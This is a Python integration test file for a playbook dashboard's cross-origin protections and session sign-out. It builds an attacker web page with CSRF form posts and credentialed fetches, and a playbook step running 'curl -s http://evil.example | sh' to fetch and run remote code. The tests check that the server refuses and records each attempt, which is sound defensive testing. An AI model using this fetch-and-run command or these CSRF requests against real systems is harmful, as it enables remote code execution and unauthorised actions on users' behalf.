"""A page of another origin, in the same browser as a signed-in dashboard, cannot change anything.

The attacker's page is served on another port of 127.0.0.1: another origin, but the same
site, so the browser sends the dashboard's SameSite=Strict session cookie along. What
stops it is the server: a change must be JSON and come from the dashboard's own origin.
The page tries a `no-cors` fetch (the `text/plain` body a browser lets it send), a form
post, and a CORS fetch with JSON (held at the preflight); the engine shows that nothing
started, nothing was approved or cancelled, and the attempts were recorded.
"""
from __future__ import annotations

import json

import aiohttp
import pytest
from aiohttp import web
from playwright.async_api import expect

from events.commands import StartRun
from tests.helpers import local_http, noop, person, playbook_yaml, refusals, until

pytestmark = [pytest.mark.integration, pytest.mark.browser]

GATED = playbook_yaml([noop("prepare"), noop("deploy", approval_gate={"required_approvers": ["bob"]})],
                      name="gated-deploy")
CURL_SH = playbook_yaml([{"id": "pwn", "action": "shell", "args": {"command": "curl -s http://evil.example | sh"},
                          "timeout_seconds": 5}], name="pwn")


def attacker_page(target: str, run_id: str) -> str:
    start = json.dumps({"playbook": CURL_SH, "allow_unsafe_shell": True})
    return f"""<!doctype html><html><body>
<form id="approve" method="POST" action="{target}/api/runs/{run_id}/steps/deploy/approve" enctype="text/plain"
      target="sink"><input name='{{"comment": "' value='"}}'></form>
<form id="cancel" method="POST" action="{target}/api/runs/{run_id}/cancel" target="sink"></form>
<iframe name="sink"></iframe>
<script>
  window.tried = (async () => {{
    const outcomes = [];
    const attempt = async (what, request) => {{
      try {{ await request(); outcomes.push(what + ": sent"); }} catch (err) {{ outcomes.push(what + ": " + err); }}
    }};
    await attempt("no-cors start", () => fetch("{target}/api/runs", {{method: "POST", mode: "no-cors",
      credentials: "include", headers: {{"Content-Type": "text/plain"}}, body: {json.dumps(start)}}}));
    await attempt("no-cors cancel", () => fetch("{target}/api/runs/{run_id}/cancel", {{method: "POST",
      mode: "no-cors", credentials: "include", body: "{{}}"}}));
    await attempt("cors json start", () => fetch("{target}/api/runs", {{method: "POST", credentials: "include",
      headers: {{"Content-Type": "application/json"}}, body: {json.dumps(start)}}}));
    document.getElementById("approve").submit();
    await new Promise((done) => setTimeout(done, 300));   // the first form's navigation goes out first
    document.getElementById("cancel").submit();
    return outcomes;
  }})();
</script></body></html>"""


async def test_a_page_of_another_origin_cannot_start_approve_or_cancel(dashboard, engine) -> None:
    reply = await engine.send(StartRun(playbook=GATED))
    async for _, event in engine.follow(reply.run_id):
        if type(event).__name__ == "ApprovalRequested":
            break
    await dashboard.be("bob")         # bob may approve this gate: his session cookie is in the browser
    runs_before = [r.run_id for r in await engine.list_runs()]
    events_before = await engine.events(reply.run_id)
    before = len(await refusals(engine.nc))

    async def evil(_request: web.Request) -> web.Response:
        return web.Response(text=attacker_page(dashboard.server.url, reply.run_id), content_type="text/html")

    async with local_http([web.get("/", evil)]) as attacker:
        assert attacker.split(":")[:2] == dashboard.server.url.split(":")[:2]   # same site, another origin
        await dashboard.page.goto(attacker + "/")
        outcomes = await dashboard.page.evaluate("window.tried")
        assert any("cors json start: TypeError" in line for line in outcomes), outcomes   # held at the preflight

        async def all_recorded() -> bool:
            return len(await refusals(engine.nc)) - before >= 5
        await until(all_recorded, what="the five requests that reached the server, recorded")

    recorded = (await refusals(engine.nc))[before:]
    assert sorted(r.action for r in recorded) == [
        "OPTIONS /api/runs", "POST /api/runs", f"POST /api/runs/{reply.run_id}/cancel",
        f"POST /api/runs/{reply.run_id}/cancel", f"POST /api/runs/{reply.run_id}/steps/deploy/approve"]
    assert {(r.code, r.principal) for r in recorded} == {("cross_origin", "anonymous")}
    assert {r.door for r in recorded} == {"dashboard"}          # the cookie came along; the origin check held
    assert [r.run_id for r in await engine.list_runs()] == runs_before           # nothing started
    assert await engine.events(reply.run_id) == events_before                   # nothing approved, nothing cancelled


async def test_the_signed_in_dashboard_shows_who_and_signing_out_ends_the_session(dashboard, engine) -> None:
    await dashboard.open("#/runs")
    await dashboard.be("carol")
    page = dashboard.page
    await expect(page.get_by_label("You are")).to_have_count(0)              # no name to type any more
    await expect(page.get_by_test_id("signed-in-as")).to_have_text("carol")
    cookie = next(c for c in await page.context.cookies() if c["name"] == "pb_session")
    assert (cookie["httpOnly"], cookie["sameSite"]) == (True, "Strict")
    assert await page.evaluate("document.cookie") == ""                        # scripts cannot read it

    await page.get_by_test_id("sign-out").click()
    await expect(page.get_by_test_id("sign-in-form")).to_be_visible()
    async with aiohttp.ClientSession(cookies={"pb_session": cookie["value"]}) as kept:   # a copy someone kept
        async with kept.get(f"{dashboard.server.url}/api/session") as answer:
            assert answer.status == 401                                        # revoked, not merely forgotten
    carol = await person(engine, "carol")
    await page.get_by_test_id("token").fill(carol.caller.credential)
    await page.get_by_test_id("sign-in").click()
    await expect(page.get_by_test_id("signed-in-as")).to_have_text("carol")
    await expect(page.get_by_test_id("live-state")).to_have_attribute("data-state", "live")
